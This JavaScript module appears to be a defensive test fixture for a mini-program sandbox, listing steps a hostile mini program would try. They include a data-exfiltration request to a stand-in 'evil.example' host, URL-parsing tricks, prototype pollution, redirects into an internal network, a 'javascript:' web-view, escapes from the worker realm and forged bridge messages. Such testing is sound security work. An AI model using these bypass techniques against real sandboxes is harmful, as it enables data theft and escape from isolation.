// The sample mini program: what third-party code inside the superapp does,
// including a few tricks. A CommonJS module, as mini program code is: the
// demo's base library evaluates it in the mini program's own realm (a worker
// with no network of its own, js/harness/realm-worker.js), where the `wx` it
// is given is its only way out. ESCAPES are what hostile code would try
// there instead of `wx`.

const STEPS = [
  ['request an allowed API', (wx, done) => wx.request({ url: 'https://api.shop.example/v1/items', success: done, fail: done })],
  ['download from an allowed port', (wx, done) => wx.downloadFile({ url: 'https://cdn.shop.example:8443/logo.png', success: done, fail: done })],
  ['request a wildcard host', (wx, done) => wx.request({ url: 'https://a.img.shop.example/pic.png', success: done, fail: done })],
  ['open an allowed socket', (wx, done) => wx.connectSocket({ url: 'wss://ws.shop.example/live', success: done, fail: done })],
  ['exfiltrate to another domain', (wx, done) => wx.request({ url: 'https://evil.example/steal?c=1', success: done, fail: done })],
  ['plain http', (wx, done) => wx.request({ url: 'http://api.shop.example/v1/items', success: done, fail: done })],
  ['wrong port', (wx, done) => wx.request({ url: 'https://api.shop.example:8443/v1', success: done, fail: done })],
  ['userinfo in the URL', (wx, done) => wx.request({ url: 'https://api.shop.example@evil.example/', success: done, fail: done })],
  ['look-alike host', (wx, done) => wx.uploadFile({ url: 'https://api.shop.example.evil.example/up', success: done, fail: done })],
  ['url whose toString changes', (wx, done) => {
    let n = 0;
    const url = { toString: () => (n++ === 0 ? 'https://api.shop.example/v1/flip' : 'https://evil.example/flip') };
    wx.request({ url, success: done, fail: done });
  }],
  ['tampered Object.prototype', (wx, done) => {
    Object.prototype.allow = true; // eslint-disable-line no-extend-native
    try { wx.request({ url: 'https://evil.example/proto', success: done, fail: done }); } finally { delete Object.prototype.allow; }
  }],
  ['granted sensitive API', (wx, done) => wx.getLocation({ success: done, fail: done })],
  ['sensitive API not granted', (wx, done) => wx.chooseImage({ success: done, fail: done })],
  ['built-in API (sync)', (wx, done) => {
    try { done({ errMsg: `getSystemInfoSync:ok ${wx.getSystemInfoSync().platform}` }); } catch (e) { done({ errMsg: e.errMsg }); }
  }],
  ['API outside the whitelist (sync)', (wx, done) => {
    try { done({ errMsg: `getSecretTokenSync:ok ${wx.getSecretTokenSync()}` }); } catch (e) { done({ errMsg: e.errMsg }); }
  }],
];

// Calls to allowed hosts whose answer is a redirect ("the internet" of
// js/harness/server.mjs). The bridge allows each first URL; the base
// library's native layer follows the redirects and checks every hop.
const REDIRECT_STEPS = [
  ['allowed host redirects to another domain', (wx, done) => wx.request({ url: 'https://api.shop.example/redirect/elsewhere', success: done, fail: done })],
  ['allowed host redirects into the superapp\'s internal network', (wx, done) => wx.request({ url: 'https://api.shop.example/redirect/internal', success: done, fail: done })],
  ['redirect loop (/loop/a ⇄ /loop/b)', (wx, done) => wx.request({ url: 'https://api.shop.example/loop/a', success: done, fail: done })],
  ['chain of 10 redirects', (wx, done) => wx.request({ url: 'https://api.shop.example/chain/10/10', success: done, fail: done })],
  ['chain of 11 redirects', (wx, done) => wx.downloadFile({ url: 'https://api.shop.example/chain/11/11', success: done, fail: done })],
];

const WEBVIEW_STEPS = [
  ['web-view to another domain', 'https://evil.example/phish'],
  ['web-view javascript:', 'javascript:alert(1)'],
  ['web-view to the allowed H5 site', 'https://h5.shop.example/welcome'],
];

// Straight past `wx`: every network and storage API of the realm itself.
// "The internet" is the harness server's /net/<host>/ route, same origin as
// the page, so neither an origin check nor a `'self'` source would stop
// these; escape.example counts every request that arrives.
const OUT = '/net/escape.example';
/** `done` with `<what>:ok` when `attempt` resolves, `<what>:fail <error>` when it throws or rejects. */
const tryEscape = (what, attempt) => (wx, done) => {
  let pending;
  try { pending = attempt(wx); } catch (e) { done({ errMsg: `${what}:fail ${e}` }); return; }
  Promise.resolve(pending).then(() => done({ errMsg: `${what}:ok` }), (e) => done({ errMsg: `${what}:fail ${e}` }));
};
const event = (target) => new Promise((resolve, reject) => {
  target.onopen = resolve;
  target.onerror = () => reject(new Error('error event'));
});
const ESCAPES = [
  ['fetch', tryEscape('fetch', () => fetch(`${OUT}/fetch`))],
  ['XMLHttpRequest', tryEscape('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', `${OUT}/xhr`, false); x.send(); })],
  ['WebSocket', tryEscape('WebSocket', () => event(new WebSocket(`ws://${self.location.host}${OUT}/ws`)))],
  ['EventSource', tryEscape('EventSource', () => event(new EventSource(`${OUT}/event-source`)))],
  ['import()', tryEscape('import()', () => import(`${OUT}/import.js`))],
  ['importScripts', tryEscape('importScripts', () => importScripts(`${OUT}/import-scripts.js`))],
  ['a nested Worker', tryEscape('Worker', () => event(new Worker(`${OUT}/worker.js`)))],
  ['a service worker', tryEscape('serviceWorker', () => navigator.serviceWorker.register(`${OUT}/sw.js`))],
  ['navigator.sendBeacon', tryEscape('sendBeacon', () => { if (!navigator.sendBeacon(`${OUT}/beacon`, 'x')) throw new Error('not queued'); })],
  ['new Image()', tryEscape('Image', () => { const i = new Image(); i.src = `${OUT}/pixel.png`; return event(i); })],
  // The sync's state: the key set, the bundle and the floors.
  ['localStorage (the sync\'s state)', tryEscape('localStorage', () => localStorage.setItem('miniprogram-guard/sync/bundle', 'planted'))],
  ['IndexedDB', tryEscape('indexedDB', () => new Promise((resolve, reject) => { const r = indexedDB.open('miniprogram-guard'); r.onsuccess = resolve; r.onerror = () => reject(r.error); }))],
  ['CacheStorage', tryEscape('caches', () => caches.open('miniprogram-guard'))],
  ['BroadcastChannel to the page', tryEscape('BroadcastChannel', () => new BroadcastChannel('miniprogram-guard').postMessage('planted'))],
];

// Straight to the page, past the realm's own `wx`: messages the mini program
// forges on its worker's postMessage. The page takes an API name only from
// its own list and rebuilds every argument as data, so a forged message can
// ask nothing a `wx` call could not.
const FORGED = [
  ['a forged call of an API the page never listed', (wx, done) => {
    self.postMessage({ op: 'call', id: 1e9, api: 'constructor', args: [] });
    done({ errMsg: 'posted' });
  }],
  ['a forged request whose url sits under an own __proto__', (wx, done) => {
    // Callbacks cross as ids the page calls back; the url only under `__proto__`.
    const options = { ['__proto__']: { t: 'o', v: { url: { t: 'p', v: 'https://evil.example/forged' } } }, fail: { t: 'f', id: 1e9 + 2 } };
    self.postMessage({ op: 'call', id: 1e9 + 1, api: 'request', args: [{ t: 'o', v: options }] });
    done({ errMsg: 'posted' });
  }],
  ['a forged request whose url is an object with a function of its own', (wx, done) => {
    const url = { t: 'o', v: { toString: { t: 'f', id: 1e9 + 3 } } };
    self.postMessage({ op: 'call', id: 1e9 + 4, api: 'request', args: [{ t: 'o', v: { url, fail: { t: 'f', id: 1e9 + 5 } } }] });
    done({ errMsg: 'posted' });
  }],
];

// What the mini program writes through `wx`: its own storage, never the sync's.
STEPS.push(['wx.setStorageSync with the sync\'s key', (wx, done) => {
  try {
    wx.setStorageSync('miniprogram-guard/sync/bundle', 'planted');
    done({ errMsg: `setStorageSync:ok ${wx.getStorageSync('miniprogram-guard/sync/bundle')}` });
  } catch (e) { done({ errMsg: e.errMsg }); }
}]);

module.exports = { STEPS, REDIRECT_STEPS, WEBVIEW_STEPS, ESCAPES, FORGED };
